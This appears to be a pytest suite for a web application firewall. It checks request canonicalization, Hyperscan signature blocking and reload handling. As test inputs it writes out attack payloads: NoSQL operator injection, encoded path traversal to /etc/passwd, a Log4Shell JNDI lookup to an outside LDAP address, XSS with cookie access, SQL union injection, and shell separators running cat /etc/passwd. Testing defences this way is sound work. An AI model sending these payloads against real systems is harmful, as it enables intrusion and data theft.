"""Issue 5 in the pipeline: the canonical request view (refusals with their status and reason,
the upstream receives the canonical target and body) and the Hyperscan signatures (blocks what
CRS PL1 misses, one threshold with CRS, signature-only mode, hot reload, bad patterns refused)."""

from __future__ import annotations

import copy
import hashlib
import json
import subprocess
import urllib.parse

import pytest

from conftest import BINARY, REPO, to_yaml

ROUTES = [
    # CRS PL1 + signatures, both blocking, the default contract.
    {"name": "sig", "hosts": ["*"], "path_prefix": "/sig/", "cluster": "echo",
     "max_body_bytes": 1048576, "waf": {"mode": "block"}, "signatures": {"mode": "block"},
     "canonical": {}},
    # CRS PL1 alone: what it misses.
    {"name": "crs", "hosts": ["*"], "path_prefix": "/crs/", "cluster": "echo",
     "max_body_bytes": 1048576, "waf": {"mode": "block"}},
    # Signature-only mode: CRS off, signatures block (the view comes with them).
    {"name": "sigonly", "hosts": ["*"], "path_prefix": "/sigonly/", "cluster": "echo",
     "signatures": {"mode": "block"}},
    # A strict contract.
    {"name": "strict", "hosts": ["*"], "path_prefix": "/strict/", "cluster": "echo",
     "canonical": {"methods": ["GET", "POST"], "duplicate_parameters": "reject",
                   "content_types": {"application/json": "json",
                                     "application/x-www-form-urlencoded": "form",
                                     "multipart/form-data": "multipart"},
                   "max_body_bytes": 4096}},
    # First-wins parameters, JSON allowed as text/plain, oversize bodies inspected by prefix.
    {"name": "lenient", "hosts": ["*"], "path_prefix": "/lenient/", "cluster": "echo",
     "canonical": {"duplicate_parameters": "first", "structured_text_plain": True,
                   "max_body_bytes": 64, "oversize": "inspect_prefix",
                   "inspect_prefix_bytes": 32}},
]

# CRS 3.3 at PL1 lets these through (`user[$ne]` it catches, 942290); the default signature set
# blocks them.
NOSQL_QUERY = "/search?q%5B%24regex%5D=.*"
NOSQL_JSON = b'{"user":"admin","password":{"$gt":""}}'


def pipeline(**extra):
    return pytest.mark.rampart(extra_routes=ROUTES, **extra)


def signature_ids(record):
    return [m["id"] for m in record["signatures"]]


@pipeline()
def test_H1_NoSqlBlockedBySignatureThatCrsPl1Misses(rampart):
    crs = rampart.get("/crs" + NOSQL_QUERY)
    assert crs.status == 200, crs.body
    sig = rampart.get("/sig" + NOSQL_QUERY)
    assert sig.status == 403
    rec = rampart.record_for(sig.header("x-request-id"))
    assert rec["reason"] == "anomaly_threshold"
    assert rec["signature_mode"] == "block"
    assert rec["signature_score"] >= 5
    assert "nosql.operator-in-name" in signature_ids(rec)
    assert rec["inbound_anomaly_score"] == 0  # CRS saw nothing
    match = rec["signatures"][0]
    assert match["where"] == "query_name" and match["action"] == "score" and match["score"] == 5
    # JSON body: CRS PL1 passes it, the json_name signature blocks it.
    hdrs = {"Content-Type": "application/json"}
    assert rampart.get("/crs/login", method="POST", headers=hdrs, body=NOSQL_JSON).status == 200
    res = rampart.get("/sig/login", method="POST", headers=hdrs, body=NOSQL_JSON)
    assert res.status == 403
    rec = rampart.record_for(res.header("x-request-id"))
    assert rec["body_parser"] == "json"
    assert any(m["where"] == "json_name" for m in rec["signatures"])


@pipeline()
def test_H1_EncodedTraversalAndJndiBlockedBySignatures(rampart):
    # A double-encoded traversal in a parameter (the view decodes once and flags it). CRS PL1
    # catches this one too (930100), so it is shown in signature-only mode.
    res = rampart.get("/sigonly/download?file=..%252f..%252f..%252fetc%252fpasswd")
    assert res.status == 403
    rec = rampart.record_for(res.header("x-request-id"))
    assert "traversal.encoded-dot-dot" in signature_ids(rec), rec["signatures"]
    assert any(a.startswith("double_encoding:query_value") for a in rec["canonical_anomalies"])
    # JNDI in a header: CRS PL1 lets it through; a `block` signature blocks outright.
    assert rampart.get("/crs/", headers={"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"}).status == 200
    res = rampart.get("/sig/", headers={"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"})
    assert res.status == 403
    rec = rampart.record_for(res.header("x-request-id"))
    assert rec["reason"] == "signature_block"
    jndi = [m for m in rec["signatures"] if m["id"] == "log4shell.jndi-lookup"]
    assert jndi and jndi[0]["where"] == "header_value" and jndi[0]["name"] == "x-api-version"
    assert jndi[0]["action"] == "block"


@pipeline()
def test_H1_BenignRequestsPassAndUpstreamSeesCanonicalTarget(rampart):
    res = rampart.get("/sig/a/./b//c/%7Euser?q=it%27s+a+nice+day&x=%41")
    assert res.status == 200, res.body
    echoed = res.json()
    assert echoed["path"] == "/sig/a/b/c/~user?q=it's%20a%20nice%20day&x=A"
    rec = rampart.record_for(res.header("x-request-id"))
    assert rec["path"] == "/sig/a/./b//c/%7Euser?q=it%27s+a+nice+day&x=%41"  # as received
    assert rec["canonical_target"] == echoed["path"]
    assert rec["signature_score"] == 0 and rec["signatures"] == []
    body = json.dumps({"comment": "I'd like to select the best option; it's <b>bold</b>",
                       "name": "Zoë O'Brien"}).encode()
    res = rampart.get("/sig/api/comments", method="POST",
                      headers={"Content-Type": "application/json"}, body=body)
    assert res.status == 200, res.body
    assert res.json()["body_length"] == len(body)


@pipeline()
def test_H1_CanonicalRejectionsHaveStatusAndReason(rampart):
    cases = [
        # (path, method, headers, body, status, reason)
        ("/strict/s?id=1&id=2", "GET", {}, None, 400, "query_duplicate_parameter"),
        ("/sig/%C0%AE%C0%AE/etc/passwd", "GET", {}, None, 400, "path_invalid_utf8"),
        ("/sig/a%2Fb", "GET", {}, None, 400, "path_encoded_slash"),
        ("/sig/api", "POST", {"Content-Type": "text/plain"}, b'{"a":1}', 400,
         "body_content_type_mismatch"),
        ("/strict/up", "POST", {"Content-Type": "multipart/form-data; boundary=XyZ"},
         b"preamble\r\n--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--XyZ--\r\n",
         400, "multipart_preamble"),
        ("/strict/up", "POST", {"Content-Type": "multipart/form-data; boundary=XyZ"},
         b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"; filename*=UTF-8''x.php\r\n\r\n1\r\n--XyZ--\r\n",
         400, "multipart_filename_star"),
        ("/strict/up", "POST", {"Content-Type": "application/xml"}, b"<a/>", 415,
         "content_type_not_allowed"),
        ("/strict/up", "POST", {"Content-Type": "application/json"}, b"x" * 5000, 413,
         "body_too_large"),
        ("/strict/x", "DELETE", {}, None, 405, "method_not_allowed"),
    ]
    for path, method, headers, body, status, reason in cases:
        res = rampart.get(path, method=method, headers=headers, body=body)
        assert res.status == status, (path, res.status, res.body)
        rec = rampart.record_for(res.header("x-request-id"))
        assert rec["reason"] == reason, (path, rec["reason"])
        assert rec["action"] == "block"
        if reason == "method_not_allowed":
            assert res.header("allow") == "GET, POST"
        assert rampart.metric("rampart_detector_reasons_total", detector="canonical",
                              reason=reason) >= 1


@pipeline()
def test_H1_UpstreamGetsTheCanonicalBody(rampart):
    # First-wins: only the first `a` is inspected, and only it is forwarded.
    res = rampart.get("/lenient/f?a=1&a=2", method="POST",
                      headers={"Content-Type": "application/x-www-form-urlencoded"},
                      body=b"a=1&a=2&b=3")
    assert res.status == 200, res.body
    echoed = res.json()
    assert echoed["path"] == "/lenient/f?a=1"
    assert echoed["body_length"] == len(b"a=1&b=3")
    # JSON as text/plain is parsed on this route.
    res = rampart.get("/lenient/j", method="POST", headers={"Content-Type": "text/plain"},
                      body=b'{"a":"b"}')
    assert res.status == 200
    # Oversize: the first 32 bytes are inspected raw, the record says so, the body goes on whole.
    body = b'{"a":"' + b"x" * 100 + b'"}'
    res = rampart.get("/lenient/big", method="POST", headers={"Content-Type": "application/json"},
                      body=body)
    assert res.status == 200
    assert res.json()["body_length"] == len(body)
    rec = rampart.record_for(res.header("x-request-id"))
    assert rec["body_inspection"] == "prefix" and rec["body_parser"] == "raw"


@pipeline()
def test_H2c_And_H2Tls_CanonicalAndSignatures(rampart):
    res = rampart.curl(["--http2-prior-knowledge", rampart.http_url + "/sig" + NOSQL_QUERY])
    assert res.http_version == "2" and res.status == 403
    assert rampart.record_for(res.header("x-request-id"))["reason"] == "anomaly_threshold"
    res = rampart.curl(["--http2-prior-knowledge", "--path-as-is",
                        rampart.http_url + "/sig/x/%C0%AE%C0%AE/y"])
    assert res.status == 400
    assert rampart.record_for(res.header("x-request-id"))["reason"] == "path_invalid_utf8"
    res = rampart.curl(["--http2", "--path-as-is"] + rampart.curl_tls_args() +
                       [rampart.https_url + "/sig/a/./b//c?x=%41"])
    assert res.http_version == "2" and res.status == 200
    assert res.json()["path"] == "/sig/a/b/c?x=A"
    # The canonical form body (first-wins) goes upstream over h2 too, with its own length.
    res = rampart.curl(["--http2-prior-knowledge", "-X", "POST", "-H",
                        "Content-Type: application/x-www-form-urlencoded",
                        "--data-binary", "a=1&a=2&b=3", rampart.http_url + "/lenient/f?a=1&a=2"])
    assert res.http_version == "2" and res.status == 200, res.body
    assert res.json()["path"] == "/lenient/f?a=1"
    assert res.json()["body_length"] == len("a=1&b=3")


@pipeline()
def test_H1_SignatureOnlyModeWithCrsOff(rampart):
    res = rampart.get("/sigonly/", headers={"User-Agent": "${jndi:ldap://203.0.113.9/a}"})
    assert res.status == 403
    rec = rampart.record_for(res.header("x-request-id"))
    assert rec["waf_mode"] == "off" and rec["rules"] == []
    assert rec["reason"] == "signature_block"
    ok = rampart.get("/sigonly/page?q=hello")
    assert ok.status == 200
    rec = rampart.record_for(ok.header("x-request-id"))
    assert rec["inbound_anomaly_score"] == -1 and rec["signature_score"] == 0
    assert rampart.metric("rampart_signature_block_total") >= 1


SIGNATURE_FILE = """signatures:
  - id: site.marker
    description: a site-specific marker
    pattern: '{pattern}'
    targets: [args]
    action: block
"""


def test_H1_SignatureFileChangeTakesEffectOnReload(make_rampart, tmp_path):
    sigfile = tmp_path / "site.yaml"
    sigfile.write_text(SIGNATURE_FILE.format(pattern="zzfirst"))
    routes = [{"name": "site", "hosts": ["*"], "path_prefix": "/site/", "cluster": "echo",
               "signatures": {"mode": "block"}}]
    r = make_rampart(extra_routes=routes, signatures={"files": [str(sigfile)]})
    assert r.get("/site/?q=zzfirst").status == 403
    assert r.get("/site/?q=zzsecond").status == 200
    sigfile.write_text(SIGNATURE_FILE.format(pattern="zzsecond"))
    status, body = r.reload(copy.deepcopy(r.config))
    assert status == 200, body
    assert r.get("/site/?q=zzsecond").status == 403
    assert r.get("/site/?q=zzfirst").status == 200
    # A bad pattern is refused at reload; the running set keeps serving.
    sigfile.write_text(SIGNATURE_FILE.format(pattern="a^b"))
    status, body = r.reload(copy.deepcopy(r.config))
    assert status == 400
    assert "site.marker" in json.dumps(body)
    assert r.get("/site/?q=zzsecond").status == 403


def test_ValidateRefusesBadSignaturePattern(make_rampart, tmp_path):
    sigfile = tmp_path / "bad.yaml"
    sigfile.write_text(SIGNATURE_FILE.format(pattern="a^b"))
    r = make_rampart()
    config = copy.deepcopy(r.config)
    config["signatures"] = {"files": [str(sigfile)]}
    config["routes"] = [{"name": "site", "hosts": ["*"], "path_prefix": "/", "cluster": "echo",
                         "signatures": {"mode": "detect"}}] + config["routes"]
    path = tmp_path / "bad-config.yaml"
    path.write_text(to_yaml(config) + "\n")
    p = subprocess.run([BINARY, "validate", str(path)], capture_output=True, timeout=60,
                       cwd=str(REPO))
    assert p.returncode != 0
    err = p.stderr.decode() + p.stdout.decode()
    assert str(sigfile) in err and "site.marker" in err and "does not compile" in err, err


def test_H1_CrsInspectsTheCanonicalTarget(make_rampart, tmp_path):
    """The ModSecurity stage runs after the canonical stage and copies the rewritten target, so a
    site rule on REQUEST_URI sees `/canon/admin/x` for `/canon/./admin//x`, as the upstream does."""
    rules = tmp_path / "site.conf"
    rules.write_text('SecRule REQUEST_URI "@beginsWith /canon/admin/" '
                     '"id:10201,phase:1,deny,status:403,log,msg:\'admin\'"\n')
    routes = [{"name": "canon", "hosts": ["*"], "path_prefix": "/canon/", "cluster": "echo",
               "canonical": {}, "waf": {"mode": "block", "rule_files": [str(rules)]}},
              {"name": "raw", "hosts": ["*"], "path_prefix": "/raw/", "cluster": "echo",
               "waf": {"mode": "block", "rule_files": [str(rules)]}}]
    r = make_rampart(extra_routes=routes)
    res = r.get("/canon/./admin//x")
    assert res.status == 403
    rec = r.record_for(res.header("x-request-id"))
    assert rec["reason"] == "waf_block", rec
    assert "10201" in rec["intervention"]["log"], rec
    assert r.get("/canon/public/x").status == 200


CMS_POST = {"title": "Release notes",
            "content": '<h2>What changed</h2><p>See <a href="https://docs.example.org/x?ref=a&lang=en" '
                       'rel="noopener">the docs</a>.</p><p><img src="/media/cat.jpg" alt="a cat" '
                       'width="640"></p><ul><li>one</li><li>two</li></ul>'}
CODE_COMMENT = {"comment": "Try this:\n\n```python\ndef help():\n    import pydoc\n    "
                           "pydoc.pager(__doc__)\n```\n\nthanks"}


def post_json(r, path, body):
    resp = r.get(path, method="POST", body=json.dumps(body).encode(),
                 headers={"Content-Type": "application/json"})
    return resp, r.record_for(resp.header("x-request-id"))


@pipeline()
def test_H1_RichTextAndCodeFencesAreInspectedAsTheirData(rampart):
    """Allowlisted HTML (941160 on <img src=, <a href=) and Markdown code fences (932105/932115 on
    ```python, and cmdi.separator-command) were false positives of CRS PL1 and the signatures;
    both now read the data, and the same markup with an attack in it is still blocked."""
    for path in ("/sig/api/posts", "/crs/api/posts"):
        resp, rec = post_json(rampart, path, CMS_POST)
        assert resp.status == 200, rec["rules"]
        assert "html" in rec["body_views"]
        assert resp.json()["body_sha256"] == hashlib.sha256(
            json.dumps(CMS_POST).encode()).hexdigest()  # the upstream got the body as sent
        resp, rec = post_json(rampart, path, CODE_COMMENT)
        assert resp.status == 200, (rec["rules"], rec["signatures"])
        assert "code_fence" in rec["body_views"]
    # outside the allowlist: an event handler, a javascript: URL, a script element
    for content in ('<p>hi</p><img src="x" onerror="alert(1)">',
                    '<p><a href="javascript:alert(document.cookie)">x</a></p>',
                    '<p>hi</p><script>alert(1)</script>'):
        resp, rec = post_json(rampart, "/sig/api/posts", {"content": content})
        assert resp.status == 403, content
        assert rec["body_views"] == []
    # data inside allowlisted markup and inside a fence is still inspected
    resp, rec = post_json(rampart, "/sig/api/posts",
                          {"content": "<p><img src=\"/a.png\" alt=\"1' or '1'='1' union select "
                                      "password from users--\"></p>"})
    assert resp.status == 403 and "html" in rec["body_views"]
    resp, rec = post_json(rampart, "/sig/api/comments",
                          {"comment": "```python\n;cat /etc/passwd\n```"})
    assert resp.status == 403 and "code_fence" in rec["body_views"]
    # a fence naming a shell is not emptied: it stays shell syntax, and blocked
    resp, rec = post_json(rampart, "/sig/api/comments", {"comment": "```bash\nls -la\n```"})
    assert resp.status == 403, rec["body_views"]
    assert rampart.metric("rampart_waf_html_views_total") >= 2
    assert rampart.metric("rampart_waf_code_fence_views_total") >= 2


# Python quoted in a comment: a line break before `del` and `nc` (932110, 932100), `if ... ==`
# (932140) and `= source` (932150) read as shell to CRS PL1, `input file` and a line break as a
# PUT request line (921110), a docstring line starting `"""Create` as a SQL statement (942360).
PYTHON_COMMENT = {"issue": 7, "comment": (
    "This fails for me:\n\n```python\ndef count(callers, source):\n"
    "    \"\"\"Create a count of the input file\n    per caller.\"\"\"\n    nc = 0\n"
    "    if source == 'x':\n        del callers[0]\n    total = source\n    return nc\n```\n\n"
    "Any idea?")}


@pipeline()
def test_H1_FencedLanguageCodeSkipsOnlyCrsLineBreakShellRules(rampart):
    """The code of a closed fence naming a programming language goes to CRS as a member of its
    own, which the shipped exclusions keep from the six rules that read line breaks, `=` and
    `if ... ==` as shell; everything else still reads it, and a shell fence, a forged member
    name or a query naming the marker byte get no such member."""
    for path in ("/crs/api/comments", "/sig/api/comments"):
        resp, rec = post_json(rampart, path, PYTHON_COMMENT)
        assert resp.status == 200, (path, rec["rules"], rec["signatures"])
        assert "language_code" in rec["body_views"] and "code_fence" in rec["body_views"]
    # The same code in a bash fence is shell: CRS blocks it.
    bash = {"comment": PYTHON_COMMENT["comment"].replace("```python", "```bash")}
    resp, rec = post_json(rampart, "/crs/api/comments", bash)
    assert resp.status == 403 and "language_code" not in rec["body_views"]
    # Explicit separators in the code are still seen: by the signatures, and SQL by CRS.
    for code in ("x = 1\n; sleep 5\n", "x = 1\n| cat /etc/passwd\n",
                 "q = \"' union select password from users--\"\n"):
        resp, rec = post_json(rampart, "/sig/api/comments", {"comment": f"```python\n{code}```"})
        assert resp.status == 403, (code, rec["rules"], rec["signatures"])
        assert "language_code" in rec["body_views"]
    # A member name the client chose with the marker byte: no code members for that body.
    forged = dict(PYTHON_COMMENT)
    forged["x\u001fcode"] = "1"
    resp, rec = post_json(rampart, "/crs/api/comments", forged)
    assert resp.status == 403 and "language_code" not in rec["body_views"], rec["body_views"]
    # A client naming an argument with the suffix (without the token drawn at start) gets no
    # exemption: in the query, and in a form body.
    code = "x = 1\n    del callers\n    nc = 0\n"
    resp = rampart.get("/crs/api/comments?c%1Fcode=" + urllib.parse.quote(code))
    assert resp.status == 403
    resp = rampart.get("/crs/api/comments", method="POST",
                       body=urllib.parse.urlencode({"c\x1fcode": code}).encode(),
                       headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert resp.status == 403
    assert rampart.metric("rampart_waf_language_code_views_total") >= 2


@pytest.mark.rampart(extra_routes=ROUTES, waf={"language_code_view": False})
def test_H1_LanguageCodeViewCanBeTurnedOff(rampart):
    """waf.language_code_view: false: the code stays in its member and CRS reads it as before."""
    resp, rec = post_json(rampart, "/crs/api/comments", PYTHON_COMMENT)
    assert resp.status == 403 and "language_code" not in rec["body_views"], rec["body_views"]
    assert "code_fence" in rec["body_views"]
